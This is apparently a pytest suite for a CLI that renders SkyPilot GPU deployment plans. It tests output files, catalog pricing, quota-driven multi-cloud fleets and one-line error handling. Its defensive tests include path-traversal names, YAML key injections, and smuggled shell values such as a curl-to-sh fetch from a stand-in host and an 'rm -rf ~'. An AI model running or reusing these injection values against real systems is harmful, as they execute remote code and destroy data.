"""`melange-sky plan` end to end, through the CLI: the files it writes, the real SkyPilot accepting and pricing
every rendered task offline, a multi-cloud fleet from quotas, and bad input as one error line."""
from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest
import yaml

from conftest import EXAMPLE, REPO

EXAMPLE_PATH = str(REPO / "examples" / "example.json")
MULTICLOUD_PATH = str(REPO / "examples" / "multicloud.json")
MULTICLOUD = json.loads(Path(MULTICLOUD_PATH).read_text())
EXAMPLE_FILES = {"skypilot_A10G_0.yaml", "skypilot_A10G_1.yaml", "skypilot_A10G_2.yaml", "skypilot_A100-80GB_0.yaml"}
JSON_FILES = {"melange_result.json", "melange_plan.json"}
MANIFEST = ".melange-sky-plan.json"  # what melange-sky wrote there: the next plan removes its own stale files


def assert_one_error_line(result, *needles: str) -> str:
    """Bad input: exit code 2, exactly one `Error: ...` line on stderr, no traceback anywhere."""
    assert result.exit_code == 2, (result.exit_code, result.stdout, result.stderr)
    assert "Traceback" not in result.stdout + result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


def plan_ok(cli, *args: str):
    result = cli("plan", *args)
    assert result.exit_code == 0, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    return result


# ---- what `plan` writes ------------------------------------------------------------------------------------------

def test_plan_f_skypilot_writes_one_task_per_replica_on_the_original_melange_offers(cli, tmp_path):
    out = tmp_path / "out"
    plan_ok(cli, EXAMPLE_PATH, "-f", "skypilot", "-o", str(out))
    assert {p.name for p in out.iterdir()} == EXAMPLE_FILES | {MANIFEST}
    for name in sorted(EXAMPLE_FILES):
        resources = yaml.safe_load((out / name).read_text())["resources"]
        if name.startswith("skypilot_A10G_"):
            assert resources == {"cloud": "aws", "region": "us-west-2", "instance_type": "g5.xlarge",
                                 "accelerators": "A10G:1", "use_spot": False, "ports": 8000}
        else:
            assert resources == {"cloud": "azure", "region": "eastus", "instance_type": "Standard_NC24ads_A100_v4",
                                 "accelerators": "A100-80GB:1", "use_spot": False, "ports": 8000}


def test_plan_f_json_writes_the_original_result_shape_and_the_plan(cli, tmp_path):
    out = tmp_path / "out"
    plan_ok(cli, EXAMPLE_PATH, "-f", "json", "-o", str(out))
    assert {p.name for p in out.iterdir()} == JSON_FILES | {MANIFEST}
    assert json.loads((out / "melange_result.json").read_text()) == {"A10G": 3, "A100-80GB": 1, "cost": 6.7}
    record = json.loads((out / "melange_plan.json").read_text())
    assert [r["file"] for r in record["replicas"]] == sorted(EXAMPLE_FILES, key=lambda n: ("A100" in n, n))
    assert record["offers"]["A10G"]["instance_type"] == "g5.xlarge"
    assert record["offers"]["A100-80GB"]["instance_type"] == "Standard_NC24ads_A100_v4"
    assert record["cost"] == pytest.approx(6.7)


def test_plan_writes_both_formats_by_default_and_prints_the_replica_table(cli, tmp_path):
    result = plan_ok(cli, EXAMPLE_PATH, "-o", str(tmp_path / "out"))
    assert {p.name for p in (tmp_path / "out").iterdir()} == EXAMPLE_FILES | JSON_FILES | {MANIFEST}
    assert "example-a10g-2" in result.stdout and "Standard_NC24ads_A100_v4" in result.stdout
    assert "Total $6.70/h ($4,891/month) across aws, azure." in result.stdout
    assert "Wrote 6 file(s)" in result.stderr


def test_plan_default_output_dir_is_the_current_directory(cli, tmp_path):
    plan_ok(cli, EXAMPLE_PATH, "-f", "skypilot")  # the cli fixture runs in tmp_path
    assert {p.name for p in tmp_path.glob("*.yaml")} == EXAMPLE_FILES


def test_plan_json_flag_prints_the_plan(cli, tmp_path):
    result = plan_ok(cli, EXAMPLE_PATH, "--json", "-o", str(tmp_path / "out"))
    record = json.loads(result.stdout)  # nothing but the JSON on stdout
    assert record == json.loads((tmp_path / "out" / "melange_plan.json").read_text())
    assert [(r["cluster"], r["cloud"], r["region"], r["instance_type"], r["price"]) for r in record["replicas"]] == [
        ("example-a10g-0", "aws", "us-west-2", "g5.xlarge", 1.01),
        ("example-a10g-1", "aws", "us-west-2", "g5.xlarge", 1.01),
        ("example-a10g-2", "aws", "us-west-2", "g5.xlarge", 1.01),
        ("example-a100-80gb-0", "azure", "eastus", "Standard_NC24ads_A100_v4", 3.67)]
    assert record["solve"]["counts"] == {"A10G": 3, "A100-80GB": 1}


# ---- the real SkyPilot accepts every rendered task ---------------------------------------------------------------

def _without_costs(data: dict) -> dict:
    data = copy.deepcopy(data)
    for entry in data["gpu_info"].values():
        entry.pop("cost", None)
    return data


def _spot(data: dict) -> dict:
    data = _without_costs(data)
    data["gpu_info"]["A10G"]["use_spot"] = True
    data["clouds"] = ["aws", "azure"]
    return data


def _two_gpu_instances(data: dict) -> dict:
    data = _without_costs(data)
    data["gpu_info"]["A100-80GB"]["accelerators"] = "A100-80GB:2"
    data["gpu_info"]["A10G"]["max_count"] = 0
    return data


# name -> (config: a path or a dict to write, extra CLI args, every entry priced by the catalog)
CASES = {
    "example-vllm": (EXAMPLE_PATH, (), False),
    "example-sglang": (EXAMPLE_PATH, ("--template", "sglang"), False),
    "multicloud-per-offer-vllm": (MULTICLOUD_PATH, ("--per-offer",), True),
    "multicloud-per-offer-sglang": (MULTICLOUD_PATH, ("--per-offer", "--template", "sglang"), True),
    "spot-per-offer": (_spot(EXAMPLE), ("--per-offer",), True),
    "two-gpu-instances-sglang": (_two_gpu_instances(EXAMPLE), ("--template", "sglang"), True),
}


def skypilot_task(text: str):
    """The task as the real SkyPilot loads it for `sky launch --secret HF_TOKEN`: schema, validation (instance type,
    region) and, per resource, something launchable (accelerators on that instance, instance in that region).
    Raises if SkyPilot rejects it."""
    import sky

    task = sky.Task.from_yaml_config(yaml.safe_load(text), secrets_overrides=[("HF_TOKEN", "x")])
    task.validate()
    for resources in task.resources:
        feasible = resources.cloud.get_feasible_launchable_resources(resources)
        if not feasible.resources_list:
            raise ValueError(f"SkyPilot finds nothing launchable for {resources.instance_type}: {feasible.hint}")
    return task


def check_with_skypilot(out: Path, catalog_priced: bool) -> dict:
    """Every task file in `out` accepted by the real SkyPilot and matching the plan (`out/melange_plan.json`):
    same offer, and SkyPilot's price for it is the plan's. Returns the plan record."""
    record = json.loads((out / "melange_plan.json").read_text())
    replicas = {r["file"]: r for r in record["replicas"]}
    assert replicas and set(replicas) == {p.name for p in out.glob("*.yaml")}
    for file_name, replica in replicas.items():
        task = skypilot_task((out / file_name).read_text())
        assert task.name == replica["cluster"]
        assert set(task.secrets) == {"HF_TOKEN"}
        assert len(task.resources) == 1
        for resources in task.resources:
            assert str(resources.cloud).lower() == replica["cloud"]
            assert (resources.region, resources.instance_type, resources.use_spot) == (
                replica["region"], replica["instance_type"], replica["use_spot"])
            name, _, count = replica["accelerators"].partition(":")
            assert resources.accelerators == {name: int(count)}
            offer = record["offers"][replica["gpu"]]
            cost = resources.get_cost(3600)
            assert cost == pytest.approx(offer["spot_price" if replica["use_spot"] else "price"], rel=1e-6)
            if catalog_priced:
                assert replica["price"] == pytest.approx(cost, rel=1e-6)
            else:  # the config's cost wins over the catalog's (1.01 vs SkyPilot's 1.006 for g5.xlarge)
                assert replica["price"] == pytest.approx(cost, rel=0.1)
    return record


@pytest.mark.filterwarnings("ignore:The inplace keyword")  # pandas, inside SkyPilot's GCP catalog
@pytest.mark.parametrize("case", list(CASES))
def test_real_skypilot_loads_validates_and_prices_every_rendered_task(cli, write_config, tmp_path, case,
                                                                      sky_catalog_home):
    """Each task file loads with SkyPilot 0.14 (schema, secrets), validates (instance type, region), has a
    launchable resource (accelerators match the instance, instance in the region) and costs what the plan says."""
    config, args, catalog_priced = CASES[case]
    config_path = config if isinstance(config, str) else write_config(config)
    out = tmp_path / "out"
    plan_ok(cli, config_path, "-o", str(out), *args)
    record = check_with_skypilot(out, catalog_priced)
    if case.startswith("spot"):
        assert any(r["use_spot"] for r in record["replicas"])
    if case.startswith("two-gpu"):
        assert {r["accelerators"] for r in record["replicas"]} == {"A100-80GB:2"}
    if "sglang" in case:
        assert all("sglang.launch_server" in (out / r["file"]).read_text() for r in record["replicas"])


@pytest.mark.filterwarnings("ignore:The inplace keyword")
@pytest.mark.parametrize("resources", [
    "  cloud: aws\n  region: us-west-2\n  instance_type: g5.xlargee\n",  # no such instance type
    "  cloud: aws\n  region: eu-north-9\n  instance_type: g5.xlarge\n",  # no such region
    "  cloud: aws\n  region: us-west-2\n  instance_type: g5.xlarge\n  accelerators: A100:1\n",  # not on g5
])
def test_the_skypilot_check_fails_on_a_task_skypilot_rejects(resources, sky_catalog_home):
    """The SkyPilot check above is not vacuous: a task SkyPilot rejects fails it. (`plan` itself refuses a template
    rendering resources other than the plan's offer: tests/test_template_safety.py.)"""
    with pytest.raises(Exception) as caught:
        skypilot_task("name: x\nresources:\n" + resources + "secrets:\n  HF_TOKEN: null\nrun: echo hi\n")
    assert not isinstance(caught.value, AssertionError)


# ---- a multi-cloud fleet from quotas -----------------------------------------------------------------------------

def test_multicloud_example_spreads_over_two_clouds_because_of_quotas(cli, write_config, tmp_path):
    with_quotas = json.loads(plan_ok(cli, MULTICLOUD_PATH, "--per-offer", "--json", "-o", str(tmp_path / "a")).stdout)
    assert len(with_quotas["clouds"]) >= 2, with_quotas["clouds"]
    assert len({(r["cloud"], r["region"]) for r in with_quotas["replicas"]}) >= 2
    azure = [r for r in with_quotas["replicas"] if r["cloud"] == "azure"]
    assert sum(int(r["accelerators"].split(":")[1]) for r in azure) <= 1  # quota: 1 A100-80GB in all of Azure

    unlimited = copy.deepcopy(MULTICLOUD)
    for entry in unlimited["gpu_info"].values():
        entry.pop("quotas")
    without = json.loads(plan_ok(cli, write_config(unlimited), "--per-offer", "--json", "-o",
                                 str(tmp_path / "b")).stdout)
    assert len(without["clouds"]) == 1 and len({r["offer"] for r in without["replicas"]}) == 1
    assert without["cost"] < with_quotas["cost"]  # the quota is what costs more and spreads the fleet


# ---- bad input: one line, exit 2, no traceback -------------------------------------------------------------------

@pytest.mark.parametrize("with_cost", [True, False])
def test_unknown_gpu_without_offer_is_one_line_listing_close_names(cli, write_config, example, tmp_path, with_cost):
    example["gpu_info"]["A10X"] = example["gpu_info"].pop("A10G")
    if not with_cost:
        example["gpu_info"]["A10X"].pop("cost")
    result = cli("plan", write_config(example), "-o", str(tmp_path / "out"))
    assert_one_error_line(result, "gpu_info.A10X", "unknown GPU 'A10X'", "did you mean", "'A10G'")
    assert not (tmp_path / "out").exists()


def test_pinned_instance_type_unknown_to_the_catalog_says_so(cli, write_config, example, tmp_path):
    example["gpu_info"]["A10G"]["instance_type"] = "g5.xlargee"
    result = cli("plan", write_config(example), "-o", str(tmp_path / "out"))
    assert_one_error_line(result, "gpu_info.A10G.instance_type", "'g5.xlargee' is unknown to the catalog",
                          "did you mean 'g5.xlarge'")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("source, line, message", [
    ("name: {{ cluster | tojson }}\nrun: |\n  {% if %}\n", 3, "syntax error"),
    ("name: {{ cluster | tojson }}\nrun: echo {{ no_such_variable }}\n", 2, "'no_such_variable' is undefined"),
    ("name: {{ cluster | tojson }}\nrun: echo {{ port + 'x' }}\n", 2, "TypeError"),
], ids=["syntax error", "undefined variable", "runtime error"])
def test_template_errors_name_file_and_line_and_write_nothing(cli, tmp_path, source, line, message):
    tpl = tmp_path / "mine.j2"
    tpl.write_text(source)
    result = cli("plan", EXAMPLE_PATH, "--template", str(tpl), "-o", str(tmp_path / "out"))
    assert_one_error_line(result, f"{tpl}:{line}:", message)
    assert not (tmp_path / "out").exists()


def test_unknown_template_name_lists_the_builtins(cli, tmp_path):
    result = cli("plan", EXAMPLE_PATH, "--template", "tgi", "-o", str(tmp_path / "out"))
    assert_one_error_line(result, "'tgi'", "sglang, vllm")


HOSTILE_NAMES = ["A10G/../../etc", "..", "....", "my gpu", "../A10G", "a b/.. c", "/abs/path", "A10G\\..\\x", " .. "]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_gpu_labels_never_write_outside_the_output_dir(cli, write_config, example, tmp_path, name):
    """A GPU entry may use any label when it pins `accelerators`; its files still land inside -o DIR."""
    example["gpu_info"] = {name: {**example["gpu_info"]["A10G"], "accelerators": "A10G:1"},
                           "A100-80GB": example["gpu_info"]["A100-80GB"]}
    example["name"] = f"../{name}"
    (tmp_path / "deep" / "cwd").mkdir(parents=True)
    config = write_config(example, name="deep/config.json")
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    plan_ok(cli, config, "-o", str(tmp_path / "deep" / "cwd" / "out"))
    out = (tmp_path / "deep" / "cwd" / "out").resolve()
    created = sorted(set(str(p) for p in tmp_path.rglob("*")) - set(before))
    assert created and all(Path(p).resolve() == out or Path(p).resolve().parent == out for p in created), created
    record = json.loads((out / "melange_plan.json").read_text())
    assert len(record["replicas"]) == 4 and len({r["file"] for r in record["replicas"]}) == 4
    assert {p.name for p in out.iterdir()} == {r["file"] for r in record["replicas"]} | JSON_FILES | {MANIFEST}


@pytest.mark.parametrize("name", ["A10G/../../etc", "..", "my gpu", "a b/.. c"])
def test_hostile_unknown_gpu_names_are_rejected_and_write_nothing(cli, write_config, example, tmp_path, name):
    example["gpu_info"] = {name: example["gpu_info"]["A10G"], "A100-80GB": example["gpu_info"]["A100-80GB"]}
    config = write_config(example)
    result = cli("plan", config, "-o", str(tmp_path / "out"))
    assert_one_error_line(result, "unknown GPU")
    assert {p.name for p in tmp_path.iterdir()} == {"config.json"}


def test_output_dir_that_is_a_file_is_refused(cli, tmp_path):
    target = tmp_path / "afile"
    target.write_text("keep me")
    result = cli("plan", EXAMPLE_PATH, "-o", str(target))
    assert result.exit_code == 2 and "Traceback" not in result.stdout + result.stderr
    assert result.stderr.strip().startswith("Error:") and len(result.stderr.strip().splitlines()) == 1
    assert "is a file" in result.stderr
    assert target.read_text() == "keep me"


def test_output_dir_below_a_file_is_one_error_line(cli, tmp_path):
    (tmp_path / "afile").write_text("keep me")
    result = cli("plan", EXAMPLE_PATH, "-o", str(tmp_path / "afile" / "sub"))
    assert_one_error_line(result, "cannot create", "afile")
    assert (tmp_path / "afile").read_text() == "keep me"


def test_a_symlink_planted_in_the_output_dir_is_not_followed_outside_it(cli, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me")
    out = tmp_path / "out"
    out.mkdir()
    (out / "skypilot_A10G_1.yaml").symlink_to(outside)
    result = cli("plan", EXAMPLE_PATH, "-o", str(out))
    assert_one_error_line(result, "skypilot_A10G_1.yaml", "outside")
    assert outside.read_text() == "keep me"
    assert [p.name for p in out.iterdir()] == ["skypilot_A10G_1.yaml"]  # nothing half-written next to it


def test_write_plan_into_a_file_says_it_is_not_a_directory(tmp_path):
    from melange_sky import OutputError, load_config
    from melange_sky.deploy.plan import PlanSettings, build_plan, write_plan
    from melange_sky.deploy.catalog import Catalog

    (tmp_path / "afile").write_text("keep me")
    plan = build_plan(load_config(EXAMPLE_PATH), PlanSettings(catalog=Catalog(skypilot_dir=None), compare=False))
    with pytest.raises(OutputError, match="afile is a file, not a directory"):
        write_plan(plan, tmp_path / "afile")
    assert (tmp_path / "afile").read_text() == "keep me"


@pytest.mark.parametrize("where", ["fleet", "gpu"])
@pytest.mark.parametrize("line_break", ["\n", "\r", "\u0085", "\u2028", "\u2029"])
def test_line_breaks_in_names_cannot_add_keys_to_a_task(cli, write_config, example, tmp_path, where, line_break):
    """YAML also breaks lines at NEL, LS and PS: a name carrying one (e.g. in the task's header comment) must not
    start a new YAML line such as `workdir: /etc #`."""
    evil = f"x{line_break}workdir: /etc #"
    if where == "fleet":
        example["name"] = evil
    else:
        example["gpu_info"] = {f"A10G{evil}": {**example["gpu_info"]["A10G"], "accelerators": "A10G:1"},
                               "A100-80GB": example["gpu_info"]["A100-80GB"]}
    out = tmp_path / "out"
    result = cli("plan", write_config(example), "-f", "skypilot", "-o", str(out))
    if result.exit_code == 0:
        for path in out.glob("*.yaml"):
            task = yaml.safe_load(path.read_text())
            assert set(task) == {"name", "resources", "envs", "secrets", "service", "setup", "run"}, path.name
            if where == "fleet":
                assert task["envs"]["MELANGE_FLEET"] == evil
            else:
                assert task["envs"]["MELANGE_GPU"] in (f"A10G{evil}", "A100-80GB")
    else:  # rejecting the name is fine too, as one line
        assert_one_error_line(result)


@pytest.mark.parametrize("deployment, field", [
    ({"extra_args": ["--max-model-len", "4096\nworkdir: /etc\n#"]}, "deployment.extra_args[1]"),
    ({"extra_args": ["x\u2028workdir: /etc #"]}, "deployment.extra_args[0]"),
    ({"version": "0.6.3$(curl evil.sh | sh)"}, "deployment.version"),
    ({"version": "0.6.3\" && rm -rf ~ && \""}, "deployment.version"),
])
def test_deployment_values_that_would_escape_the_run_or_setup_command_are_rejected(
        cli, write_config, example, tmp_path, deployment, field):
    example["deployment"] = deployment
    result = cli("plan", write_config(example), "-o", str(tmp_path / "out"))
    assert_one_error_line(result, field)


def test_user_template_shell_quoting_a_multi_line_value_names_the_line(cli, write_config, example, tmp_path):
    tpl = tmp_path / "mine.j2"
    tpl.write_text("name: {{ cluster | tojson }}\nrun: |\n  echo {{ deployment.note | shell_quote }}\n")
    example["deployment"] = {"extra": {"note": "two\nlines: here"}}
    result = cli("plan", write_config(example), "--template", str(tpl), "-o", str(tmp_path / "out"))
    assert_one_error_line(result, f"{tpl}:3:", "line break")


# ---- secrets -----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("config, args", [(EXAMPLE_PATH, ()), (EXAMPLE_PATH, ("--template", "sglang", "--json")),
                                          (MULTICLOUD_PATH, ("--per-offer",))])
def test_hf_token_from_the_environment_never_reaches_any_written_file(cli, tmp_path, monkeypatch, config, args):
    token = "hf_SENTINEL_do_not_write_4242"
    monkeypatch.setenv("HF_TOKEN", token)
    result = plan_ok(cli, config, "-o", str(tmp_path / "out"), *args)
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert any(p.suffix == ".yaml" for p in files) and any(p.name == "melange_plan.json" for p in files)
    for path in files:
        assert token not in path.read_text(errors="replace"), path
    assert token not in result.stdout + result.stderr
    for path in (tmp_path / "out").glob("*.yaml"):
        assert yaml.safe_load(path.read_text())["secrets"] == {"HF_TOKEN": None}


# ---- issue 12: true baselines, guards, short names, one Validated line per offer ----------------------------------
ONLY80 = {"name": "only80", "workload_distribution": [[0.2, 0.1], [0.5, 0.2]], "total_request_rate": 240,
          "slice_factor": 1, "gpu_info": {"A100-80GB": {"tputs": [[20, 20], [40, 20]]}}}


def test_a_plan_of_one_gpu_type_claims_no_saving_against_itself(cli, write_config, tmp_path):
    """The catalog has A100-80GB in 1-, 2- and 8-GPU instances (Lambda); the per-offer plan mixes them, and the
    baseline is the same GPU type with the same offers: no saving (it once claimed one against 1-GPU offers)."""
    path = write_config(ONLY80)
    record = json.loads(plan_ok(cli, path, "--per-offer", "--json", "-o", str(tmp_path / "a")).stdout)
    assert any(r["accelerators"] == "A100-80GB:8" for r in record["replicas"])
    assert record["solve"]["saving"] == 0
    assert record["solve"]["baselines"][0]["cost"] == pytest.approx(record["cost"])
    text = plan_ok(cli, path, "--per-offer", "-o", str(tmp_path / "b")).stdout
    assert "Saves" not in text
    solved = cli("solve", path, "--per-offer", "-o", str(tmp_path / "r.json")).stdout
    assert "No saving: the cheapest fleet is 1 x 8-GPU instance + " in solved


def test_per_offer_cluster_names_stay_short_and_the_ledger_keeps_the_offer(cli, write_config, tmp_path):
    record = json.loads(plan_ok(cli, write_config(ONLY80), "--per-offer", "--json", "-o", str(tmp_path)).stdout)
    for replica in record["replicas"]:
        assert len(replica["cluster"]) <= 32, replica["cluster"]
        assert replica["cluster"].startswith(f"only80-a100-80gb-{replica['cloud']}-")
        assert replica["offer"].count(":") == 2  # cloud:region:instance_type, in full
    assert len({r["cluster"] for r in record["replicas"]}) == len(record["replicas"])


def test_default_mode_cluster_names_are_unchanged(cli, tmp_path):
    record = json.loads(plan_ok(cli, EXAMPLE_PATH, "--json", "-o", str(tmp_path)).stdout)
    assert [r["cluster"] for r in record["replicas"]] == ["example-a10g-0", "example-a10g-1", "example-a10g-2",
                                                        "example-a100-80gb-0"]


def test_plan_above_max_replicas_writes_no_file(cli, tmp_path):
    result = cli("plan", EXAMPLE_PATH, "--rate", "1e6", "-o", str(tmp_path / "out"))
    assert_one_error_line(result, "37,500 replicas", "above --max-replicas 500")
    assert not (tmp_path / "out").exists()


def test_dry_run_validates_in_one_line_per_kind_of_offer_at_the_plans_price(cli, tmp_path, monkeypatch):
    monkeypatch.setenv("MELANGE_SKY_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("MELANGE_SKY_BACKEND", "fake_backend:FakeBackend")
    monkeypatch.setenv("MELANGE_SKY_FAKE_STATE", str(tmp_path / "fake.json"))
    result = cli("up", EXAMPLE_PATH, "--dryrun")
    assert result.exit_code == 0, result.stderr
    validated = [line for line in result.stdout.splitlines() if line.startswith("Validated")]
    assert validated == [
        "Validated aws:us-west-2:g5.xlarge: 3 replicas at $1.01/h, schema: fake backend: shape, envs and secrets "
        "checked",
        "Validated azure:eastus:Standard_NC24ads_A100_v4: 1 replica at $3.67/h, schema: fake backend: shape, envs "
        "and secrets checked"]
    assert "$4,891/month" in result.stdout


def test_a_smaller_plan_removes_the_task_files_an_earlier_plan_wrote_and_nothing_else(cli, tmp_path):
    out = tmp_path / "stale"
    plan_ok(cli, EXAMPLE_PATH, "-o", str(out), "-f", "skypilot")
    (out / "notes.txt").write_text("mine")
    (out / "skypilot_custom.yaml").write_text("name: mine\n")  # the task pattern, but not melange-sky's
    (out / "skypilot_A10G_2.yaml").write_text((out / "skypilot_A10G_2.yaml").read_text() + "# edited\n")
    smaller = plan_ok(cli, EXAMPLE_PATH, "-o", str(out), "-f", "skypilot", "--rate", "5")
    planned = {r["file"] for r in json.loads(cli("plan", EXAMPLE_PATH, "-o", str(tmp_path / "x"), "--rate", "5",
                                                 "--json").stdout)["replicas"]}
    assert len(planned) == 2 and planned < EXAMPLE_FILES  # the smaller plan reuses two of the names
    removed = sorted(EXAMPLE_FILES - planned - {"skypilot_A10G_2.yaml"})
    assert {p.name for p in out.iterdir()} == planned | {MANIFEST, "notes.txt", "skypilot_custom.yaml",
                                                         "skypilot_A10G_2.yaml"}
    assert f"removed {len(removed)} an earlier plan wrote there: {', '.join(removed)}" in smaller.stderr
    assert "2 task file(s) not from this plan, kept" in smaller.stderr  # the edited one and the user's own
    assert "skypilot_A10G_2.yaml" in smaller.stderr and "skypilot_custom.yaml" in smaller.stderr
    again = plan_ok(cli, EXAMPLE_PATH, "-o", str(out), "-f", "skypilot", "--rate", "5")
    assert "removed" not in again.stderr and (out / "skypilot_A10G_2.yaml").exists()  # the edited one is the user's


def test_a_plan_without_json_removes_the_earlier_plans_json_records_unless_edited(cli, tmp_path):
    out = tmp_path / "out"
    plan_ok(cli, EXAMPLE_PATH, "-o", str(out))
    (out / "melange_result.json").write_text('{"A10G": 9}')  # rewritten since, e.g. by hand: the user's now
    again = plan_ok(cli, EXAMPLE_PATH, "-o", str(out), "-f", "skypilot")
    assert {p.name for p in out.iterdir()} == EXAMPLE_FILES | {MANIFEST, "melange_result.json"}
    assert "removed 1 an earlier plan wrote there: melange_plan.json" in again.stderr
    assert "not from this plan" not in again.stderr  # no task file is left over
